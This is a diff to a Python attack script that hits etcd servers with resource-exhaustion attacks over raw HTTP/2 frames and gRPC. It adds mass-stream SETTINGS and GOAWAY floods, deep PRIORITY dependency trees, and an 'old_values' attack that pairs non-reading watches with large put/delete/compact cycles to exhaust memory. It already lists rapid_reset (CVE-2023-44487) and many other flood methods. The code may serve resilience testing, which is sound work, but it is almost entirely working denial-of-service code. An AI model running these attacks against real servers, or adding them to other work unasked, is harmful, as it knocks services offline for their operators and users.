@@ -7,14 +7,15 @@ import os
 import random
 import select
 import ssl
+import struct
 import sys
 import threading
 import time
 
 import grpc
 
-from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST, SETTINGS, WINDOW, call, connect, frame,
-                   headers, literal, message, settings, tls_context)
+from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITIZED, PRIORITY, RST, SETTINGS, WINDOW,
+                   call, connect, frame, headers, literal, message, settings, tls_context)
 
 if __name__ == "__main__":
     sys.path.insert(0, sys.argv[1])
@@ -122,6 +123,27 @@ class Attack:
             state[1] += at_once
             return b"".join(per_stream(1 + 2 * i) for i in range(first, first + at_once))
         return more
+
+    def of_all_streams(self, chunk, n=7000, more=lambda i: b""):
+        """What makes a server go through all streams of a connection, on connections that have many."""
+        def begin(s):
+            return b"".join(frame(HEADERS, END_HEADERS | (PRIORITIZED if more(i) else 0), 1 + 2 * i, more(i) + headers(b"/etcdserverpb.Watch/Watch"))
+                            for i in range(n))
+        self.flood(begin, lambda st: chunk)
+
+    def settings_of_all_streams(self):
+        self.of_all_streams(b"".join(settings((4, 65535 + (i & 1))) for i in range(500)))
+
+    def goodbyes(self):
+        self.of_all_streams(frame(GOAWAY, 0, 0, b"\x7f\xff\xff\xfe" + bytes(4)) * 500)
+
+    def tall_trees(self):
+        """Each stream depends on the one before; then, which is the last of them is asked again and again."""
+        def on(stream):
+            return struct.pack(">IB", stream, 16)
+
+        self.of_all_streams(b"".join(frame(PRIORITY, 0, 2 * 6998 - 1 - 2 * (i & 1), on(2 * 6999 + 1)) for i in range(500)),
+                            more=lambda i: on(max(2 * i - 1, 0)))
 
     def rapid_reset(self):  # CVE-2023-44487
         body = pb.RangeRequest(key=b"big/", range_end=b"big0").SerializeToString()
@@ -240,6 +262,30 @@ class Attack:
         self.flood(lambda s: frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.Watch/Watch")), lambda st: chunk, read=False,
                    receive=4096)
 
+    def old_values(self):
+        """Deletes at once what is large, before watches that want what was there and read nothing of it."""
+        body = pb.WatchRequest(create_request=pb.WatchCreateRequest(key=b"old/", range_end=b"old0", prev_kv=True)).SerializeToString()
+        watches = []
+        for _ in range(8):
+            s = self.connect(receive=4096, hello=settings((4, 0x7fffffff)) + frame(WINDOW, 0, 0, b"\x7f\0\0\0"))
+            s.sendall(call(1, b"/etcdserverpb.Watch/Watch", body, end=False))
+            watches.append(s)
+        with channel_to(self.host, self.port, self.files) as c:
+            def ask(path, m):
+                answer = c.unary_unary("/etcdserverpb.KV/" + path, request_serializer=None, response_deserializer=pb.DeleteRangeResponse.FromString)(
+                    m.SerializeToString(), timeout=10)
+                return answer.header.revision
+
+            while True:
+                try:
+                    for i in range(32):
+                        ask("Put", pb.PutRequest(key=b"old/%d" % i, value=bytes(1 << 20)))
+                    gone = ask("DeleteRange", pb.DeleteRangeRequest(key=b"old/", range_end=b"old0"))
+                    time.sleep(1)
+                    ask("Compact", pb.CompactionRequest(revision=gone))
+                except grpc.RpcError:
+                    self.refused += 1
+
     # -- what costs connections --
 
     def idle(self):
@@ -279,14 +325,15 @@ class Attack:
         self.flood(None, lambda st: chunk)
 
 
-COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", "rapid_reset", "continuations", "header_references",
+COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", "settings_of_all_streams", "goodbyes",
+             "tall_trees", "rapid_reset", "continuations", "header_references",
              "small_calls", "renewals", "garbage", "deep_messages", "costly_txns"]
 COST_MEMORY = ["unread_ranges", "zero_windows", "one_byte_windows", "large_answers_to_writes", "half_messages", "half_watches",
-               "refused_watches", "watches"]
+               "refused_watches", "watches", "old_values"]
 COST_CONNECTIONS = ["idle", "come_and_go", "slow_bytes"]
 ALL = COST_LOOP + COST_MEMORY + COST_CONNECTIONS + ["logins"]
 # That leave the keys alone, and are at their height at once.
-MILD = [a for a in ALL if a not in ("costly_txns", "large_answers_to_writes", "watches", "logins")]
+MILD = [a for a in ALL if a not in ("costly_txns", "large_answers_to_writes", "watches", "old_values", "logins")]
 
 
 def attack(name, *where, there=None):
